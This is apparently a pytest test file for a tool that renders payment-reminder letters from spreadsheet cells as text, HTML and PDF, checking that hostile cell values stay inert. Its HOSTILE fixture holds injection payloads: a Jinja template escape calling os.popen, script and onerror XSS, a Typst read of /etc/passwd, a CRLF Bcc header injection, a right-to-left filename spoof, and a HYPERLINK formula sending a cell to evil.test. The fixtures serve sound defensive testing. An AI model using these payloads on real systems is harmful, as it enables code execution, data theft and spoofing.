"""Whatever stands in a cell comes out as it stands: in text, HTML, PDF and on the page, and does nothing there."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from letter_samples import AS_OF, SETTINGS, message, write
from pypdf import PdfReader

from ar_sheets import letters
from ar_sheets.base.sanitize import clean
from ar_sheets.letters.text import letter_as_text
from ar_sheets.schema.findings import Finding

HOSTILE = {
    "quotes": "O'Neill & \"Sons\" <b>",
    "jinja": "{{ 7*7 }} {% include \"x\" %} {# c #}",
    "escape": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "script": "<script>alert(1)</script><img src=http://evil.test/t.gif onerror=alert(1)>",
    "typst": '#read("/etc/passwd") *x* _y_ $z$ @ref <label> \\ `raw` = h',
    "lines": "A\r\nBcc: evil@evil.test\n\n[[qr]]\n[[invoices]]",
    "block": "[[qr]]",
    "mark": "\x02qr\x02\x03",
    "control": "a\x00b\x1b[31mc\x7f",
    "separators": "a\u2028b\u2029c\x85d",
    "turned": "abc\u202egnp.exe",
    "isolated": "\u2066abc \u05d0\u05d1",
    "long": "x" * 300,
    "sentences": "lorem ipsum " * 25,
    "cjk": "株式会社テスト",
    "emoji": "Café 🚀",
    "formula": '=HYPERLINK("http://evil.test/?d="&A2,"Pay here")',
    "subject": "Subject: x",
}  # fmt: skip
MAYBE_NO_FONT = {"cjk", "emoji", "isolated"}  # a computer may have no font for them: then the letter says so
AS_SEEN = {"turned", "isolated"}  # a PDF gives back turned text in the order the eye sees it


def squeezed(text: str) -> str:
    """Without blanks and marks that no eye sees: line ends differ between the forms."""
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]", "", text)


class Page(HTMLParser):
    """What a browser would see: the text, the tags, and every address."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.text, self.tags, self.addresses = "", set(), []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.addresses += [value for name, value in attrs if name in ("src", "href", "action", "background")]
        assert not [name for name, _ in attrs if name.startswith("on")]
        if tag not in ("meta", "br", "wbr", "img", "input"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[letters.Written]]:
    """One letter for each hostile value, which stands in every cell that a letter shows."""
    folder = tmp_path_factory.mktemp("batch")
    messages = []
    for key, value in HOSTILE.items():
        of = message("pt", "final")
        customer = replace(of.customer, name=value, contact=value, street=value, city=value, customer_id=value)
        lines = (replace(of.lines[0], invoice_no=value, po_ref=value, description=value), *of.lines[1:])
        messages.append(replace(of, letter_id=key, customer=customer, lines=lines, to=value))
    own = replace(SETTINGS, business_name='B {{ 1 }} <i> #x "', signatory="<u>S</u>")
    finding = Finding("Invoices", "A1", "<script>what</script>", "{{ todo }}")
    return folder, letters.write_batch(messages, folder, None, own, AS_OF, [finding])


@pytest.mark.parametrize("key", list(HOSTILE))
def test_a_hostile_cell_is_only_a_value(batch: tuple[Path, list[letters.Written]], key: str) -> None:
    folder, written = batch
    value = squeezed(HOSTILE[key])
    text = (folder / "letters" / f"{key}.txt").read_text("utf-8")
    assert squeezed(text).count(value) >= 5
    assert text.count("\nComo pagar") == 1
    html = Page((folder / "letters" / f"{key}.html").read_text("utf-8"))
    assert squeezed(html.text).count(value) >= 5
    assert html.open == []
    assert html.tags <= {
        "html", "head", "meta", "title", "body", "div", "p", "br", "h1", "h2", "table", "thead", "tbody", "tr", "th",
        "td", "a", "img",
    }  # fmt: skip
    assert all(re.match(r"https://pay\.nordlys\.example/|data:image/png;base64,", found) for found in html.addresses)
    pdf = squeezed("".join(page.extract_text() for page in PdfReader(folder / "letters" / f"{key}.pdf").pages))
    warned = any("font" in warning for entry in written for warning in entry.warnings if entry.letter_id == key)
    assert "Últimoaviso:3faturas" in pdf
    assert warned or key in AS_SEEN or pdf.count(value) >= 5
    assert not warned or key in MAYBE_NO_FONT


def test_the_page_shows_hostile_cells_and_runs_nothing(batch: tuple[Path, list[letters.Written]]) -> None:
    source = (batch[0] / "index.html").read_text("utf-8")
    page = Page(source)
    for value in HOSTILE.values():
        assert squeezed(page.text).count(squeezed(value)) >= 5
    assert "{{ todo }}" in page.text
    assert "<script>what</script>" in page.text
    assert source.count("<script") == 1
    assert page.open == []
    assert all(
        re.match(
            r"#|letters/[\w-]+\.(txt|html|pdf)$|print\.pdf$|https://pay\.nordlys\.example/|data:image/png;|tel:", found
        )
        for found in page.addresses
    )


def test_a_subject_is_one_line() -> None:
    of = message(name="call", customer=replace(message().customer, contact="A\r\nBcc: evil@evil.test"))
    filled = write(of)
    assert "\n" not in filled.subject
    assert letter_as_text(filled).splitlines()[0] == f"Subject: {filled.subject}"


@given(st.text())
def test_cleaning_leaves_one_line_and_every_visible_sign(value: str) -> None:
    def visible(text: str) -> list[str]:
        return [sign for sign in text if sign.isalnum()]

    cleaned = clean(value)
    assert len(cleaned.splitlines()) <= 1
    assert not set(cleaned) & set(map(chr, range(32)))
    assert visible(cleaned) == visible(value)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    ("value", "cleaned"),
    [
        ("a\u202eb", "a\u202eb\u202c"),
        ("a\u202eb\u202c", "a\u202eb\u202c"),
        ("\u2067\u202ax", "\u2067\u202ax\u202c\u2069"),
        ("\u202c\u2069x", "\u202c\u2069x"),
        (None, ""),
        (" a \t b ", "a b"),
        (1041, "1041"),
    ],
)
def test_a_turned_value_turns_nothing_after_it(value: object, cleaned: str) -> None:
    assert clean(value) == cleaned
